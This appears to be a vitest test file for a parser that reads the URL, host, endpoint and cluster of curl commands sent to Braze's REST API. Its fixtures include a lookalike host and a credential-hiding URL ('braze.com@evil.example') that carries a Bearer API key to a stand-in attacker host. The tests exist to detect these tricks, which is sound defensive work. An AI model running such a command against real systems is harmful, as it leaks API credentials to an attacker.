import { describe, it } from 'vitest';
import { expectReading, sampleKey, type ReadingRow } from './testing/expect-reading';

const type = `-H 'Content-Type: application/json'`;
const auth = `-H 'Authorization: Bearer ${sampleKey}'`;
const body = `{"campaign_id":"c1"}`;
const get = 'https://rest.iad-01.braze.com/campaigns/list';

const addresses: readonly ReadingRow[] = [
  {
    name: 'without a scheme',
    text: `curl rest.fra-02.braze.eu/canvas/trigger/send ${type} ${auth} -d '${body}'`,
    reading: {
      url: 'https://rest.fra-02.braze.eu/canvas/trigger/send',
      host: 'rest.fra-02.braze.eu',
      endpoint: '/canvas/trigger/send',
      clusterId: 'EU-02',
    },
    notes: ['scheme_added'],
  },
  {
    name: 'in capitals, with port, double slash, end slash and fragment',
    text: `curl HTTPS://REST.IAD-01.BRAZE.COM:443//campaigns/trigger/send/#top ${type} ${auth} -d '${body}'`,
    reading: { url: 'HTTPS://REST.IAD-01.BRAZE.COM:443//campaigns/trigger/send/' },
  },
  {
    name: 'without encryption',
    text: `curl http://rest.iad-01.braze.com/messages/send ${type} ${auth} -d '${body}'`,
    reading: {
      url: 'http://rest.iad-01.braze.com/messages/send',
      endpoint: '/messages/send',
    },
    notes: ['not_https'],
  },
  {
    name: 'on this machine',
    text: `curl http://127.0.0.1:8080/messages/send ${type} ${auth} -d '${body}'`,
    reading: {
      url: 'http://127.0.0.1:8080/messages/send',
      host: '127.0.0.1:8080',
      endpoint: '/messages/send',
      clusterId: null,
    },
  },
  {
    name: 'of an endpoint that is not known',
    text: `curl https://rest.iad-01.braze.com/users/track ${type} ${auth} -d '${body}'`,
    reading: { url: 'https://rest.iad-01.braze.com/users/track', endpoint: null },
  },
  {
    name: 'of the SDK host, which is no REST host',
    text: `curl https://sdk.iad-01.braze.com/campaigns/trigger/send ${type} ${auth} -d '${body}'`,
    reading: {
      url: 'https://sdk.iad-01.braze.com/campaigns/trigger/send',
      host: 'sdk.iad-01.braze.com',
      clusterId: null,
    },
  },
  {
    name: 'that only looks like a REST host',
    text: `curl https://rest.iad-01.braze.com.example.net/campaigns/trigger/send ${type} ${auth} -d '${body}'`,
    reading: {
      url: 'https://rest.iad-01.braze.com.example.net/campaigns/trigger/send',
      host: 'rest.iad-01.braze.com.example.net',
      clusterId: null,
    },
  },
  {
    name: 'with credentials that hide the host',
    text: `curl 'https://rest.iad-01.braze.com@evil.example/campaigns/trigger/send' ${type} ${auth} -d '${body}'`,
    reading: {
      url: 'https://evil.example/campaigns/trigger/send',
      host: 'evil.example',
      clusterId: null,
    },
    notes: ['other_credentials'],
  },
  {
    name: 'with a variable of Postman',
    text: `curl -X POST '{{rest_url}}/campaigns/trigger/send' ${type} -H 'Authorization: Bearer {{api_key}}' -d '${body}'`,
    reading: {
      url: '{{rest_url}}/campaigns/trigger/send',
      host: null,
      clusterId: null,
      apiKey: null,
    },
    notes: ['address_variable', 'key_placeholder'],
  },
  {
    name: 'with a variable of the shell',
    text: `curl -X POST "https://$BRAZE_HOST/campaigns/trigger/send" ${type} ${auth} -d '${body}'`,
    reading: { url: 'https://$BRAZE_HOST/campaigns/trigger/send', host: null, clusterId: null },
    notes: ['address_variable'],
  },
  {
    name: 'with a key in the query',
    text: `curl '${get}?api_key=${sampleKey}&page=1' ${auth}`,
    reading: {
      method: 'GET',
      url: `${get}?page=1`,
      endpoint: '/campaigns/list',
      headers: [],
      bodyText: null,
      bodyFrom: null,
    },
    notes: ['key_in_url'],
  },
];

describe('the address of a curl command', () => {
  it.each(addresses)('is read $name', expectReading);
});
